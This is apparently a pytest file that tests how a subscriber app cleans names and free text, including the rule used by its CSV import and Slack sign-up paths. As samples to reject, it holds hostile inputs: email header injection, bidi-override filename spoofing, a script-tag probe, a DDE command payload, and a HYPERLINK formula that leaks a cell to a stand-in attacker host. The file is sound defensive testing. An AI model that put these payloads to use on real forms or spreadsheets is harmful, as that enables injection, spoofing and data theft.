"""subscribers.person_text: the one rule for names and free text, and the ways in that use it."""

from __future__ import annotations

import unicodedata

import pytest

from subscribers.directory import spreadsheet_safe
from subscribers.importing import Defaults, read_csv
from subscribers.models import Subscriber
from subscribers.person_text import MAX_NAME, InvalidText, Problem, clean_free_text, clean_name
from subscribers.slack_membership import MembershipOutcome, SlackMember, subscribe_slack_member

# Names as real people type them ------------------------------------------------------------------

KEPT_NAMES = {
    "Ana García": "Ana García",
    "Seán O'Brien": "Seán O'Brien",
    "Conan O’Neil": "Conan O’Neil",  # the curly apostrophe phones type
    "Mary-Jane Smith-Ñúñez": "Mary-Jane Smith-Ñúñez",
    "Ñandú Textiles": "Ñandú Textiles",
    "Nguyễn Văn An": "Nguyễn Văn An",
    "王小明": "王小明",
    "محمد علي": "محمد علي",  # right-to-left text needs no override characters
    "Smith & Sons, Inc.": "Smith & Sons, Inc.",
    "Tortillería La Ñ 🌮": "Tortillería La Ñ 🌮",
    "Familia 👩‍👩‍👧 Tamales": "Familia 👩‍👩‍👧 Tamales",  # zero-width joiners hold the emoji together
    "shop.com": "shop.com",  # a domain-like business name, not a link
    "  Ana\t\tGarcía  ": "Ana García",  # a tab pasted from a spreadsheet is spacing
    "Ana\u00a0García": "Ana García",  # a no-break space from a word processor
    "Ana   María  López": "Ana María López",
    "": "",
    "   ": "",
}


@pytest.mark.parametrize("raw, stored", KEPT_NAMES.items(), ids=KEPT_NAMES.keys())
def test_names_people_type_are_kept(raw: str, stored: str) -> None:
    assert clean_name(raw) == stored


def test_names_are_stored_composed() -> None:
    decomposed = unicodedata.normalize("NFD", "José Ñúñez")
    assert decomposed != "José Ñúñez"
    assert clean_name(decomposed) == "José Ñúñez"


def test_a_name_may_be_exactly_as_long_as_the_column() -> None:
    assert clean_name("N" * MAX_NAME) == "N" * MAX_NAME
    with pytest.raises(InvalidText) as caught:
        clean_name("N" * (MAX_NAME + 1))
    assert caught.value.problem == Problem.TOO_LONG
    # Spaces that tidying removes don't count.
    assert clean_name("N" * MAX_NAME + "     ") == "N" * MAX_NAME


# What no one types --------------------------------------------------------------------------------

HOSTILE_NAMES = {
    "CRLF header injection": (
        "Ana\r\nBcc: everyone@example.org",
        Problem.LINE_BREAK,
        "contains a line break",
    ),
    "bare LF": ("Ana\nGarcía", Problem.LINE_BREAK, "line break"),
    "bare CR": ("Ana\rGarcía", Problem.LINE_BREAK, "line break"),
    "Unicode line separator": ("Ana\u2028Bcc", Problem.LINE_BREAK, "line break"),
    "next line (NEL)": ("Ana\x85Bcc", Problem.LINE_BREAK, "line break"),
    "vertical tab": ("Ana\x0bGarcía", Problem.LINE_BREAK, "line break"),
    "NUL": ("An\x00a", Problem.CONTROL_CHARACTER, "control character (U+0000)"),
    "terminal escape": ("Ana\x1b[31m", Problem.CONTROL_CHARACTER, "(U+001B)"),
    "bell": ("Ana\x07", Problem.CONTROL_CHARACTER, "(U+0007)"),
    "bidi override U+202E": ("Ana\u202egnp.exe", Problem.CONTROL_CHARACTER, "(U+202E)"),
    "bidi isolate U+2066": ("\u2066Ana\u2069", Problem.CONTROL_CHARACTER, "(U+2066)"),
    "unpaired surrogate": ("Ana\ud800", Problem.CONTROL_CHARACTER, "(U+D800)"),
    "10,000 characters": ("A" * 10_000, Problem.TOO_LONG, "longer than 200 characters (10,000)"),
    "HYPERLINK formula": (
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prize")',
        Problem.FORMULA,
        "starts with '=', which spreadsheets run as a formula",
    ),
    "formula behind spaces": ("   =1+1", Problem.FORMULA, "formula"),
    "plus formula": ("+cmd|' /C calc'!A0", Problem.FORMULA, "starts with '+'"),
    "minus formula": ("-2+3", Problem.FORMULA, "starts with '-'"),
    "at formula": ("@SUM(A1:A9)", Problem.FORMULA, "starts with '@'"),
    "script tag": ("<script>alert(1)</script>", Problem.MARKUP, "contains < or >"),
    "address in a display name": ("Ana <ana@evil.example>", Problem.MARKUP, "< or >"),
    "link": ("Claim your prize at http://evil.example", Problem.WEB_ADDRESS, "contains a web address"),
    "www address": ("Visit www.example.com today", Problem.WEB_ADDRESS, "web address"),
    "link without scheme": ("prizes at example.net/win", Problem.WEB_ADDRESS, "web address"),
}


@pytest.mark.parametrize("raw, problem, message", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_hostile_names_are_refused_with_a_message_fit_to_show(
    raw: str, problem: Problem, message: str
) -> None:
    with pytest.raises(InvalidText) as caught:
        clean_name(raw, field="organization")
    error = caught.value
    assert isinstance(error, ValueError)
    assert error.problem == problem and error.field == "organization"
    text = str(error)
    assert text.startswith("organization ") and message in text
    # One short line that never repeats the (possibly hostile, possibly huge) value.
    assert text.isprintable() and len(text) < 100
    assert raw.strip() not in text


def test_each_check_stays_within_the_field_it_names() -> None:
    with pytest.raises(InvalidText, match=r"^legal_name contains a line break$"):
        clean_name("A\nB", field="legal_name")


# Free text (what a business makes) ---------------------------------------------------------------

KEPT_TEXT = {
    "bulleted list from a browser": ("- uniforms\r\n- face masks", "- uniforms\n- face masks"),
    "lone CR": ("uniforms\rmasks", "uniforms\nmasks"),
    "Word's manual line break": ("uniforms\x0bmasks", "uniforms\nmasks"),
    "Unicode line separator": ("uniforms\u2028masks", "uniforms\nmasks"),
    "tidied lines": ("  tortillas\t  y   tamales \n\n  pan dulce ", "tortillas y tamales\n\npan dulce"),
    "angle brackets in prose": ("Sizes < 10 & > 2", "Sizes < 10 & > 2"),
    "formula-like text": ("=SUM(A1) is not a product", "=SUM(A1) is not a product"),
    "only blank lines": ("\n" * 10_000, ""),
    "emoji": ("Pan 🥖 y café ☕", "Pan 🥖 y café ☕"),
}


@pytest.mark.parametrize("raw, stored", KEPT_TEXT.values(), ids=KEPT_TEXT.keys())
def test_free_text_keeps_lines_and_tidies_them(raw: str, stored: str) -> None:
    assert clean_free_text(raw) == stored


def test_free_text_that_looks_like_a_formula_is_neutralised_on_export() -> None:
    """Free text may start with "-" (a list), so the export's apostrophe is what protects it."""
    stored = clean_free_text("- uniforms\n- masks")
    assert spreadsheet_safe(stored) == "'- uniforms\n- masks"


HOSTILE_TEXT = {
    "NUL": ("Masks\x00", Problem.CONTROL_CHARACTER),
    "terminal escape": ("Masks\x1b[31m", Problem.CONTROL_CHARACTER),
    "bidi override": ("Masks \u202egnp.exe", Problem.CONTROL_CHARACTER),
    "unpaired surrogate": ("Masks\udfff", Problem.CONTROL_CHARACTER),
    "link": ("Cheap masks at https://spam.example", Problem.WEB_ADDRESS),
    "HYPERLINK formula": ('=HYPERLINK("http://evil.example","x")', Problem.WEB_ADDRESS),
    "10,000 characters": ("x" * 10_000, Problem.TOO_LONG),
    "2,001 characters": ("x" * 2001, Problem.TOO_LONG),
}


@pytest.mark.parametrize("raw, problem", HOSTILE_TEXT.values(), ids=HOSTILE_TEXT.keys())
def test_hostile_free_text_is_refused(raw: str, problem: Problem) -> None:
    with pytest.raises(InvalidText) as caught:
        clean_free_text(raw)
    assert caught.value.problem == problem
    assert str(caught.value).startswith("products ") and str(caught.value).isprintable()


# The ways in use the same rule ----------------------------------------------------------------------


@pytest.mark.parametrize("raw", ["Ana\u202egnp.exe", "=HYPERLINK(1)", "<script>x</script>", "A" * 10_000])
def test_the_import_refuses_what_the_rule_refuses(raw: str) -> None:
    data = "email,name\n" + f'a@x.com,"{raw}"\n'
    parsed = read_csv(data.encode(), Defaults())
    [note] = parsed.rejected
    with pytest.raises(InvalidText) as caught:
        clean_name(raw)
    assert note.reason == str(caught.value)


async def test_slack_subscribe_keeps_a_good_name_and_drops_one_the_form_would_refuse(db: str) -> None:
    names = {
        "U1": ("ana@example.com", "  Ana\tGarcía "),
        "U2": ("bo@example.com", "Bo http://evil.example"),
        "U3": ("cy@example.com", "C" * 300),
        "U4": ("di@example.com", "Di\u202eneila"),
    }
    for user_id, (email, name) in names.items():
        result = await subscribe_slack_member(SlackMember(user_id, email, name))
        assert result.outcome == MembershipOutcome.SUBSCRIBED  # a bad name never blocks joining
    stored = {person.email: person.name for person in await Subscriber.all()}
    assert stored == {
        "ana@example.com": "Ana García",
        "bo@example.com": "",
        "cy@example.com": "",
        "di@example.com": "",
    }
